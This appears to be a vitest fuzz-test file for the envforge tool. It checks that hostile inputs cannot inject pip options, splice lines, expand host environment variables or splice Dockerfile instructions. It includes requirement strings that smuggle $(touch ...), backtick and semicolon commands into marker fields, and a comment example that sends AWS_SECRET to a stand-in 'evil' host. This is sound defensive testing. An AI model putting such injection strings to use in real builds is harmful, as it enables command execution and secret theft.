import { spawnSync } from "node:child_process";
import { existsSync } from "node:fs";
import { mkdir, writeFile } from "node:fs/promises";
import path from "node:path";
import { EnvforgeError, type CanonicalValue, type Engine } from "@envforge/core/plugin-kit";
import { renderDockerfile } from "@envforge/image";
import { pipPlugin } from "@envforge/plugin-pip";
import { pipInstallFiles } from "@envforge/python";
import { fc } from "@fast-check/vitest";
import { beforeAll, describe, expect, it } from "vitest";
import { testEngine } from "../support/engine.js";
import { inCI, titleWithReason, warnSkip } from "../support/skip.js";
import { makeWheel } from "../support/wheels.js";
import { envCount, envSeed, report, tmp } from "../reliability/support.js";
import { HOSTILE_STRINGS, hostileString, requirement } from "./arbitraries.js";

/**
 * Values of a definition that try to become commands: every accepted value reaches pip's
 * requirement files and the generated Dockerfile only in a form that does exactly what it says.
 * Refused values must be refused with an EnvforgeError.
 */
const RUNS = envCount("ENVFORGE_INJECTION_RUNS", 3000);
const SEED = envSeed("ENVFORGE_FUZZ_SEED");
const CHECKER = path.resolve(import.meta.dirname, "../support/pip-file-check.py");

const pipProbe = spawnSync("python3", ["-c", "import pip._internal.req.req_file"], { encoding: "utf8" });
const noPip = pipProbe.status === 0 ? undefined : "python3 with pip is not installed";
if (noPip && inCI) throw new Error("the injection tests need python3 with pip in CI");
warnSkip("pip requirement-file checks", noPip);

interface FileCase {
  text: string;
  lines: string[];
}

interface Problem {
  kind: "env" | "splice" | "option" | "parse";
  detail: string;
}

/** Runs pip's own requirement-file preprocessing over the files; returns the problems per file. */
function pipReads(cases: FileCase[]): Problem[][] {
  const run = spawnSync("python3", [CHECKER], {
    input: JSON.stringify(cases),
    encoding: "utf8",
    maxBuffer: 256 * 1024 * 1024,
    // A ${VAR} that survived into a file would be expanded by pip from here: the check sees it.
    env: { ...process.env, ENVFORGE_CANARY: "leaked", HOME: "/leaked-home" },
  });
  if (run.status !== 0) throw new Error(`pip-file-check failed: ${run.stderr}`);
  return JSON.parse(run.stdout) as Problem[][];
}

/** The logical lines `pipInstallFiles` means to write, per file. */
function intended(canonical: CanonicalValue | undefined): FileCase[] {
  const files = pipInstallFiles(canonical);
  const out = [{ text: files.requirements, lines: files.requirements.split("\n").filter((l) => l !== "") }];
  if (files.constraints !== undefined) out.push({ text: files.constraints, lines: files.constraints.split("\n").filter((l) => l !== "") });
  return out;
}

async function hashOrRefuse(engine: Engine, object: unknown, dir?: string) {
  try {
    return await engine.hash({ object, dir, file: dir ? path.join(dir, "env.yaml") : "<fuzz>" });
  } catch (error) {
    expect(error).toBeInstanceOf(EnvforgeError);
    return undefined;
  }
}

let dir: string;
beforeAll(async () => {
  dir = await tmp("injection");
});

/** Hostile requirements through the engine, then through pip's own reading of the files written. */
let pipFindings: { inputs: number; accepted: number; refused: number; files: number; problems: Array<Problem & { input: string }> } | undefined;
async function pipFuzz() {
  if (pipFindings) return pipFindings;
  const { engine } = await testEngine();
  const cases: Array<{ input: string; files: FileCase[] }> = [];
  let refused = 0;
  const inline = fc.sample(fc.array(fc.oneof(requirement, hostileString), { minLength: 1, maxLength: 3 }), { numRuns: RUNS, seed: SEED });
  const fileLines = fc.sample(fc.array(fc.oneof(requirement, hostileString), { minLength: 1, maxLength: 6 }), { numRuns: Math.ceil(RUNS / 3), seed: SEED ^ 1 });
  for (const reqs of inline) {
    const result = await hashOrRefuse(engine, { python: { pip: reqs } });
    if (!result) refused++;
    else cases.push({ input: JSON.stringify(reqs), files: intended(result.canonical.sections.pip) });
  }
  for (const [i, lines] of fileLines.entries()) {
    const file = path.join(dir, `req-${i}.txt`);
    await writeFile(file, `${lines.join("\n")}\n`);
    const result = await hashOrRefuse(engine, { python: { pipRequirements: path.basename(file) } }, dir);
    if (!result) refused++;
    else cases.push({ input: JSON.stringify(lines), files: intended(result.canonical.sections.pip) });
  }
  const results = pipReads(cases.flatMap((c) => c.files));
  let k = 0;
  const problems: Array<Problem & { input: string }> = [];
  for (const c of cases) for (const _ of c.files) for (const p of results[k++]!) problems.push({ ...p, input: c.input });
  pipFindings = { inputs: inline.length + fileLines.length, accepted: cases.length, refused, files: results.length, problems };
  return pipFindings;
}
const of = (kinds: Problem["kind"][], problems: Array<Problem & { input: string }>) => problems.filter((p) => kinds.includes(p.kind)).map((p) => `${p.input}: ${p.detail}`);

describe.skipIf(noPip)(titleWithReason(`injection through pip requirements (seed ${SEED})`, noPip), () => {
  it(`${RUNS} hostile requirements (inline and as requirements files): none smuggles a pip option or splices a line`, { timeout: 600_000 }, async () => {
    const found = await pipFuzz();
    expect(of(["option", "splice"], found.problems)).toEqual([]);
    expect(found.accepted).toBeGreaterThan(RUNS / 20);
    report("injection-pip", { seed: SEED, inputs: found.inputs, accepted: found.accepted, refused: found.refused, filesReadByPip: found.files, optionsSmuggled: 0, linesSpliced: 0 });
  });

  it("no requirement pulls a host environment variable (${VAR}) into what pip reads", { timeout: 600_000 }, async () => {
    // pip expands ${VAR} in requirement files from its environment, which is the host's: a shared
    // definition could send any secret variable to any URL (numpy @ https://evil/${AWS_SECRET}).
    const found = await pipFuzz();
    expect(of(["env"], found.problems)).toEqual([]);
  });

  it("every accepted requirement is one pip can parse (anything else is refused with a location)", { timeout: 600_000 }, async () => {
    const found = await pipFuzz();
    expect(of(["parse"], found.problems)).toEqual([]);
  });

  it("a real venv build of accepted look-alikes (markers holding $(…), `…`, ;) installs the package and runs nothing", { timeout: 300_000 }, async () => {
    const venv = spawnSync("python3", ["-c", "import venv, ensurepip"]);
    if (venv.status !== 0) {
      if (inCI) throw new Error("python3 venv/ensurepip missing in CI");
      return;
    }
    const canary = path.join(dir, "pwned");
    const wheels = path.join(dir, "wheels");
    await makeWheel(wheels, { name: "envforge-canary", version: "1.0.0" });
    await mkdir(path.join(dir, "cache"), { recursive: true });
    const { engine } = await testEngine({ cacheDir: path.join(dir, "cache"), plugins: [pipPlugin()] });
    const pip = [
      `envforge-canary==1.0.0 ; os_name != "$(touch ${canary})"`,
      `envforge-canary ; platform_release != "\`touch ${canary}\`"`,
      `envforge-canary>=1 ; sys_platform != "; touch ${canary}" and python_version >= "3"`,
    ];
    const result = await engine.build({ object: { python: { pip } } }, { target: "venv", builderOptions: { pip: { findLinks: [wheels], noIndex: true } } });
    const python = path.join(result.entry.artifact.path!, "bin", "python");
    expect(spawnSync(python, ["-c", "import envforge_canary"]).status).toBe(0);
    expect(existsSync(canary)).toBe(false);
  });
});

// --- the generated Dockerfile ---

/** A Dockerfile double-quoted word as quoteDockerfileWord writes it: only \\, \" and \$ escapes. */
const QUOTED = /"(?:[^"\\$\n]|\\[\\"$])*"/.source;
const GENERATED = [
  new RegExp(`^(RUN|CMD|ENTRYPOINT) (\\[.*\\])$`),
  /^COPY [^\s]+ [^\s]+$/,
  new RegExp(`^ENV VIRTUAL_ENV=${QUOTED} PATH=${QUOTED}:\\$PATH$`),
  new RegExp(`^LABEL( [a-z.]+=${QUOTED})+$`),
];

/**
 * A step's later lines must continue its first: the line before ends with a backslash, or they are
 * the body of a heredoc it opened. Anything else would start a second instruction.
 */
function isOneInstruction(step: string): boolean {
  const lines = step.split("\n");
  const heredocs = [...lines[0]!.matchAll(/<<-?["']?([A-Za-z_][A-Za-z0-9_]*)["']?/g)].map((m) => m[1]!);
  let i = 1;
  for (const end of heredocs) {
    while (i < lines.length && lines[i]!.replace(/^\t+/, "") !== end) i++;
    i++;
  }
  for (; i < lines.length; i++) if (!/\\\s*$/.test(lines[i - 1]!) && lines[i]!.trim() !== "") return false;
  return true;
}

/** What in a generated Dockerfile did not come from the user's own base and steps, and is unsafe. */
function unsafeLines(dockerfile: string, canonical: { base: { image?: string }; steps: string[]; buildArgs?: Record<string, string> }): string[] {
  const problems: string[] = [];
  const lines = dockerfile.replace(/\n$/, "").split("\n");
  const from = lines.shift()!;
  if (!/^FROM [a-z0-9][a-z0-9._\-/:@]*$/.test(from) || from !== `FROM ${canonical.base.image}`) problems.push(`base: ${from}`);
  for (const name of Object.keys(canonical.buildArgs ?? {})) {
    const line = lines.shift();
    if (line !== `ARG ${name}` || !/^[A-Za-z_][A-Za-z0-9_]*$/.test(name)) problems.push(`build arg: ${line}`);
  }
  // The user's steps are instructions the user wrote (they are meant to run); each is one whole
  // instruction, in order, and nothing is spliced between or into them.
  for (const step of canonical.steps) {
    if (!isOneInstruction(step)) problems.push(`a step that is more than one instruction: ${JSON.stringify(step)}`);
  }
  const steps = canonical.steps.join("\n").split("\n").filter((l) => l !== "");
  const taken = lines.splice(0, steps.length);
  if (taken.join("\n") !== steps.join("\n")) problems.push(`steps: ${JSON.stringify(taken)} != ${JSON.stringify(steps)}`);
  for (const line of lines) {
    const match = GENERATED.find((re) => re.test(line));
    if (!match) problems.push(`generated: ${line}`);
    else if (match === GENERATED[0]) {
      const argv = JSON.parse(/^\w+ (.*)$/.exec(line)![1]!) as unknown;
      if (!Array.isArray(argv) || !argv.every((a) => typeof a === "string")) problems.push(`exec form: ${line}`);
    }
  }
  return problems;
}

describe(`injection through the generated Dockerfile (seed ${SEED})`, () => {
  it(`${Math.ceil(RUNS / 3)} hostile definitions: every generated line is exec form or quoted, build-arg values never appear`, { timeout: 600_000 }, async () => {
    const { engine } = await testEngine();
    // One field hostile at a time (the others valid), so most definitions get as far as the text.
    const hostile = fc.oneof(fc.constantFrom(...HOSTILE_STRINGS), hostileString);
    const definition = fc.record({
      field: fc.constantFrom("baseImage", "steps", "buildArgValue", "buildArgName", "platform", "version", "pip", "variables"),
      text: hostile,
      pip: fc.array(requirement, { maxLength: 3 }),
    }).map(({ field, text, pip }) => ({
      baseImage: field === "baseImage" ? text : "python:3.11-slim",
      steps: field === "steps" ? [`RUN echo ${text}`, text] : ["RUN echo ok"],
      // Build-arg values carry a canary: it may appear in the quoted label, nowhere else.
      buildArgs: field === "buildArgValue" ? { PIP_INDEX: `efcanary${text}` } : field === "buildArgName" ? { [text]: "efcanary" } : {},
      platform: field === "platform" ? text : undefined,
      version: field === "version" ? text : "3.11",
      pip: field === "pip" ? [text, ...pip] : pip,
      variables: field === "variables" ? { [text || "K"]: text } : {},
    }));
    let accepted = 0;
    let refused = 0;
    const findings: string[] = [];
    const pipFiles: FileCase[] = [];
    for (const d of fc.sample(definition, { numRuns: Math.ceil(RUNS / 3), seed: SEED ^ 2 })) {
      const object = {
        variables: d.variables,
        python: { ...(d.version === undefined ? {} : { version: d.version }), ...(d.pip.length > 0 ? { pip: d.pip } : {}) },
        docker: { baseImage: d.baseImage, steps: d.steps, buildArgs: d.buildArgs, ...(d.platform === undefined ? {} : { platform: d.platform }) },
      };
      let rendered;
      try {
        rendered = await renderDockerfile(engine, { object, file: "<fuzz>" }, { builderOptions: { pip: { indexUrl: "https://pypi.example/simple" } } });
      } catch (error) {
        expect(error).toBeInstanceOf(EnvforgeError);
        refused++;
        continue;
      }
      accepted++;
      const canonical = JSON.parse(rendered.canonicalText) as { sections: { docker: { base: { image?: string }; steps: string[]; buildArgs?: Record<string, string> } } };
      for (const p of unsafeLines(rendered.image.dockerfile, canonical.sections.docker)) findings.push(`${JSON.stringify(object)}: ${p}`);
      const text = rendered.image.dockerfile;
      // Values reach the build as --build-arg; in the text they appear only inside the quoted label.
      for (const line of text.split("\n")) if (!line.startsWith("LABEL ") && line.includes("efcanary")) findings.push(`build arg value in the text: ${line}`);
      const reqFile = rendered.image.files["envforge/pip/requirements.txt"];
      if (typeof reqFile === "string") pipFiles.push({ text: reqFile, lines: reqFile.split("\n").filter((l) => l !== "") });
    }
    if (!noPip && pipFiles.length > 0) {
      // Injection only here; what pip cannot parse or expands is the pip tests' business.
      pipReads(pipFiles).forEach((problems, i) =>
        problems.filter((p) => p.kind === "option" || p.kind === "splice").forEach((p) => findings.push(`image requirements ${i}: ${p.detail}`)),
      );
    }
    expect(findings).toEqual([]);
    expect(accepted).toBeGreaterThan(10);
    report("injection-dockerfile", { seed: SEED, inputs: accepted + refused, accepted, refused, imageRequirementFiles: pipFiles.length, findings: findings.length });
  });

  it("the hostile catalogue, one value at a time in each field, never splices an instruction", async () => {
    const { engine } = await testEngine();
    const findings: string[] = [];
    for (const s of HOSTILE_STRINGS) {
      const variants = [
        { docker: { baseImage: s, steps: [] } },
        { docker: { baseImage: "debian:12", steps: [`RUN echo ${s}`] } },
        { docker: { baseImage: "debian:12", steps: [], buildArgs: { X: s } } },
        { docker: { baseImage: "debian:12", steps: [], buildArgs: { [s]: "1" } } },
        { docker: { baseImage: "debian:12", steps: [], platform: s } },
        { python: { version: s }, docker: { baseImage: "debian:12", steps: [] } },
        { python: { pip: [s] }, docker: { baseImage: "debian:12", steps: [] } },
        { variables: { [s || "K"]: s }, docker: { baseImage: "debian:12", steps: [] } },
      ];
      for (const object of variants) {
        try {
          const rendered = await renderDockerfile(engine, { object, file: "<catalogue>" }, { builderOptions: { pip: { indexUrl: "https://pypi.example/simple" } } });
          const canonical = JSON.parse(rendered.canonicalText) as { sections: { docker: { base: { image?: string }; steps: string[]; buildArgs?: Record<string, string> } } };
          for (const p of unsafeLines(rendered.image.dockerfile, canonical.sections.docker)) findings.push(`${JSON.stringify(object)}: ${p}`);
        } catch (error) {
          expect(error, JSON.stringify(object)).toBeInstanceOf(EnvforgeError);
        }
      }
    }
    expect(findings).toEqual([]);
  });
});
